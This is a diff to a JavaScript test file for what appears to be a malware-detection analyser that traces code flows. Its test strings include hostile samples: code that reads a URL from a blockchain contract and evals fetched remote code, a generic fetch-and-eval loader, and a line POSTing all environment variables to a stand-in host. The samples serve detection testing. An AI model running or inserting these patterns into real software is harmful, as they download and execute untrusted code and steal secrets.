@@ -98,6 +98,15 @@ describe('what code does', () => {
     assert.deepEqual([...kindsIn(facts)].sort(), ['autostart call', 'download-and-run call']);
   });
 
+  it('is told with the dead drop that an address comes from, and without one where a caller gives it', () => {
+    const drop = `const { Contract } = require('some-chain'); (async () => { const url = await new Contract('0x1').read(); eval(await (await fetch(url)).text()); })();`;
+    const loader = `exports.load = (url) => fetch(url).then((answer) => answer.text()).then((text) => eval(text));`;
+    assert.deepEqual(
+      [drop, loader].map((code) => analyseIndex(code).flows.map(({ source, detail }) => `${source} ${detail ?? ''}`)),
+      [['downloaded some-chain.Contract().read()'], ['downloaded ']],
+    );
+  });
+
   it('is followed to its end past recursion over what is not known, and past generators that never end', () => {
     const theft = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
     const code = `const fs = require('fs'), path = require('path');
